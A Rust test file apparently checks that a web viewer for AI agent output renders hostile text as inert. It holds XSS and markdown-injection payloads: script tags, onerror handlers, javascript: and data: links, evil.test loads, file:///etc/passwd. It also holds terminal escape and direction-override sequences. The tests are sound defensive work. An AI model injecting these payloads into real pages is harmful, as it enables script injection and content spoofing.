//! Texts of helpers never act: whatever they say is read, and nothing of it runs, leads anywhere it
//! should not, or asks for anything.

use legwork_testkit::Page;
use legwork_testkit::legwork::Host;
use serde_json::{Value, json};

use crate::look::{choose, reads};
use crate::stage::Stage;

/// What a page that makes HTML of a text would run or load. `X` is told apart in what is left.
const PAYLOADS: [&str; 24] = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=2>",
    "<img src='https://evil.test/a.png'>",
    "![picture](https://evil.test/b.png?secret=1)",
    "![](javascript:window.hacked=3)",
    "[click](javascript:window.hacked=4)",
    "[click](JaVaScRiPt:window.hacked=5)",
    "[click](&#106;avascript:window.hacked=6)",
    "[click](java\tscript:window.hacked=7)",
    "[click](data:text/html,<script>window.hacked=8</script>)",
    "[click](vbscript:msgbox)",
    "[click](file:///etc/passwd)",
    "[click](blob:http://127.0.0.1/x)",
    "[click](//evil.test/c)",
    "<javascript:window.hacked=9>",
    "<svg onload=window.hacked=10><use href='https://evil.test/d.svg#x'/></svg>",
    "<iframe src='https://evil.test/e'></iframe>",
    "<style>@import 'https://evil.test/f.css'; * { display: none }</style>",
    "<link rel=stylesheet href='https://evil.test/g.css'>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/h'>",
    "<form action='https://evil.test/i'><button>go</button></form>",
    "<a href='https://evil.test/j' onclick='window.hacked=11'>x</a>",
    "<object data='https://evil.test/k'></object><embed src='https://evil.test/l'>",
];

/// Escape sequences, and marks that turn the direction of writing.
const CONTROLS: &str = "\u{1b}[2J\u{1b}]0;title\u{7}\u{1b}]52;c;aGk=\u{7}\u{202e}turned\u{202c}";

/// Every element that came of texts of helpers, by its name, and every address in them.
const MADE: &str = "(() => { \
    const made = document.querySelectorAll('#board *, #detail *'); \
    const names = [...new Set([...made].map((one) => one.localName))].sort(); \
    const links = [...document.querySelectorAll('.pane a, .ask-card a')]; \
    return { names, links: links.map((a) => [a.href, a.rel]), \
      handlers: [...made].filter((one) => one.getAttributeNames().some((name) => \
        name.startsWith('on') || name === 'style' && one.closest('.md'))).length } })()";

/// What the page itself is made of.
const OURS: &str = "a article b blockquote br button circle code dd details div dl dt em form h2 h3 h4 \
    h5 h6 hr i kbd label li ol option p path pre s section select small span strong summary svg \
    table tbody td textarea th thead time tr ul use";

fn is_harmless(page: &Page, origin: &str) {
    let made = page.eval(MADE);
    for name in made["names"].as_array().unwrap() {
        let name = name.as_str().unwrap();
        assert!(OURS.split_whitespace().any(|ours| ours == name), "an element {name}");
    }
    assert_eq!(made["handlers"], 0);
    for link in made["links"].as_array().unwrap() {
        let address = link[0].as_str().unwrap();
        let safe = ["http://", "https://", "mailto:"];
        assert!(safe.iter().any(|scheme| address.starts_with(scheme)), "{address}");
        assert_eq!(link[1], "noopener noreferrer", "{address}");
    }
    assert_eq!(page.eval("typeof window.hacked"), "undefined");
    for asked in page.requests() {
        assert!(asked.url.starts_with(origin), "it asked for {}", asked.url);
    }
    let title = page.eval("document.title");
    assert!(title.as_str().unwrap().ends_with("legwork"), "{title}");
}

#[test]
fn v7_nothing_in_a_result_acts() {
    let stage = Stage::new();
    let mut host = Host::connect(&stage.home);
    let (task, session) = host.launch("answer with all that is bad");
    let text = format!("begins\n\n{}\n\n{CONTROLS}\n\nthe end", PAYLOADS.join("\n\n"));
    host.finish(&session, &text);
    stage.until(&task, "it is over", |task| !task["ended"].is_null());
    let page = stage.open();
    choose(&page, &task);
    page.key("2");
    page.wait_for(&reads("#pane-result", "the end"));
    reads_and_does_nothing(&page, &stage.origin(), "#pane-result");
    assert_eq!(policy_breaches(&page), Vec::<Value>::new());
}

#[test]
fn v7_nothing_in_a_conversation_acts() {
    let stage = Stage::new();
    let mut script = String::from("say begins\n");
    // A script ends its commands so.
    for payload in PAYLOADS.iter().filter(|payload| !payload.contains(';')) {
        script += &format!("think {payload}\ntool {payload}\nsay {payload}\n");
    }
    let controls = CONTROLS.replace(';', ":");
    let task = stage.launch(&format!("{script}tool {controls}\nsay {controls}the end"));
    stage.until(&task, "it is over", |task| !task["ended"].is_null());
    let page = stage.open();
    choose(&page, &task);
    page.key("1");
    // The prompt has these words too.
    page.wait_for(&reads("#pane-conversation .is-text:last-child", "the end"));
    page.eval("document.querySelectorAll('details').forEach((one) => (one.open = true)); null");
    for part in [".is-thought", ".tools", ".is-text", ".is-prompt"] {
        let all = format!("[...document.querySelectorAll('#pane-conversation {part}')]");
        page.wait_for(&format!("{all}.some((one) => one.innerText.includes('<script>'))"));
    }
    reads_and_does_nothing(&page, &stage.origin(), "#pane-conversation");
    assert_eq!(policy_breaches(&page), Vec::<Value>::new());
}

/// It is all there to be read, as text; and a click on it leads nowhere.
fn reads_and_does_nothing(page: &Page, origin: &str, pane: &str) {
    for part in ["<script>", "onerror=", "<iframe", "<base", "javascript:window"] {
        page.wait_for(&reads(pane, part));
    }
    is_harmless(page, origin);
    let pane = json!(pane);
    let clicked = page.eval(&format!(
        "(() => {{ const all = [...document.querySelectorAll({pane} + ' *')] \
         .filter((one) => /click/.test(one.textContent) && !one.closest('a, details')); \
         all.forEach((one) => one.click()); return all.length }})()"
    ));
    assert!(clicked.as_u64().unwrap() > 0);
    assert_eq!(page.eval("location.origin"), origin);
    is_harmless(page, origin);
    let steers = page.eval(&format!(
        "/[\\u0000-\\u0008\\u001b\\u202e]/.test(document.querySelector({pane}).innerText)"
    ));
    assert_eq!(steers, false, "a control character is shown in {pane}");
}

/// What the browser had to forbid: nothing may even try.
fn policy_breaches(page: &Page) -> Vec<Value> {
    let complaints = page.complaints().into_iter();
    complaints.filter(|one| one.contains("Content Security Policy")).map(Value::from).collect()
}

#[test]
fn v7_nothing_in_a_title_a_question_or_a_reason_acts() {
    let stage = Stage::new();
    let hostile = "<img src=x onerror=window.hacked=1><script>window.hacked=2</script>";
    let title = format!("{hostile}{CONTROLS}");
    let launch = |script: &str| {
        let all = ["run", "--agent", "rehearsal", "--detach", "--description", &title, script];
        stage.run(&all).with_code(0).out.trim().to_owned()
    };
    let controls = CONTROLS.replace(';', ":");
    let asks = launch(&format!("ask for {hostile} [x](javascript:window.hacked=3){controls}"));
    let fails = launch(&format!("fail with {hostile}"));
    stage.until(&asks, "it asks", |task| task["questions"] != json!([]));
    let page = stage.open();
    page.wait_for(&reads(".ask-card pre", "<img src=x"));
    page.wait_for(&reads("#title", "<script>"));
    let steers = "/[\\0-\\x08\\x1b\\u202e]/.test(document.querySelector('#detail').innerText)";
    assert_eq!(page.eval(steers), false, "what is allowed could be another thing than is read");
    page.key("3");
    page.wait_for(&reads("#pane-why .now", "<img src=x"));
    is_harmless(&page, &stage.origin());
    choose(&page, &fails);
    page.key("2");
    page.wait_for(&reads("#pane-result", "<script>"));
    page.key("3");
    page.wait_for(&reads("#pane-why .log", "<script>"));
    is_harmless(&page, &stage.origin());
    // In a dialog too.
    choose(&page, &asks);
    page.key("x");
    page.wait_for(&reads("#ask", "<script>"));
    assert_eq!(page.eval("document.querySelectorAll('#ask img, #ask script').length"), 0);
    assert_eq!(policy_breaches(&page), Vec::<Value>::new());
}

#[test]
fn v7_the_page_looks_again_at_what_the_server_sends() {
    let stage = Stage::new();
    stage.launch("say hello");
    let page = stage.open();
    page.wait_for(&reads("#pane-result", "hello"));
    // A tree that no server of ours makes.
    let made = page.eval(
        "(async () => { const { blocks } = await import('/markdown.js'); \
         const link = (to) => ({ is: 'paragraph', of: [{ is: 'link', to, of: [{ is: 'text', text: to }] }] }); \
         const bad = ['javascript:alert(1)', ' javascript:alert(1)', 'data:text/html,x', '/api/clear', 'x', \
           'file:///etc/passwd', 'blob:x', '//evil.test']; \
         const all = blocks([...bad, 'https://example.com/', 'mailto:a@b.c'].map(link).concat( \
           { is: 'script', text: 'window.hacked=1' }, { is: 'constructor' }, { is: '__proto__' }, \
           { is: 'paragraph', of: [{ is: 'img', src: 'x' }, { is: 'text', text: '<b>' }] })); \
         const box = document.createElement('div'); box.append(...all); \
         return { hrefs: [...box.querySelectorAll('[href]')].map((a) => a.getAttribute('href')), \
           names: [...new Set([...box.querySelectorAll('*')].map((one) => one.localName))].sort() } })()",
    );
    assert_eq!(made["hrefs"], json!(["https://example.com/", "mailto:a@b.c"]));
    assert_eq!(made["names"], json!(["a", "p", "span"]));
}
